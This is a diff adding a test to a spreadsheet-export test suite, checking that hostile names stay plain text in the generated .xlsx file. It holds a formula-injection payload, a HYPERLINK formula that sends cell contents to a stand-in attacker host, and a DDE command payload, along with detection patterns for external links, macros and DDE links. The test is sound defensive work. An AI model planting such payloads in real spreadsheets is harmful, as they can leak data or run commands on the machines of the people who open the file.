@@ -48,6 +48,37 @@ describe('the .xlsx file', () => {
     expect(strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array())).toContain('&lt;script&gt;');
   });
 
+  test('names of a hostile link are text in every sheet: no formula of theirs, no link to elsewhere, no code', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A1)';
+    const own = {
+      id: 'own/1',
+      name: `${evil} own`,
+      basedOn: BASE_SCENARIO.offerId,
+      discountRatio: 0.1,
+      rates: { input: null, output: 20, cacheRead: null, cacheWrite: null },
+    };
+    const { workload } = BASE_SCENARIO;
+    const files = await filesOf({
+      ...BASE_SCENARIO,
+      name: `${evil} name`,
+      offerId: own.id,
+      ownOffers: [own],
+      workload: { ...workload, roles: workload.roles.map((role) => ({ ...role, name: '+cmd|" /C calc"!A0' })) },
+    });
+    const texts = new Map(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
+    const all = [...texts.values()].join('\n');
+    // It is there, as text.
+    expect(all).toMatch(/evil\.example[^<]* own/);
+    expect(all).toMatch(/evil\.example[^<]* name/);
+    expect(all).toContain('+cmd|');
+    for (const [, formula] of all.matchAll(/<f>([^<]*)<\/f>/g))
+      expect(formula).not.toMatch(/HYPERLINK|cmd|evil|WEBSERVICE|\[/);
+    expect(
+      [...texts.keys()].filter((name) => /externalLink|vba|macro|activeX|embeddings|connections/i.test(name)),
+    ).toEqual([]);
+    expect(all).not.toMatch(/TargetMode="External"|<hyperlink|<ddeLink|<oleLink/);
+  });
+
   test('packs on the page: no file of the largest workload is so long that a worker is started, which the policy forbids', async () => {
     const [first] = BASE_SCENARIO.workload.roles;
     if (!first) throw new Error('The base has no role');
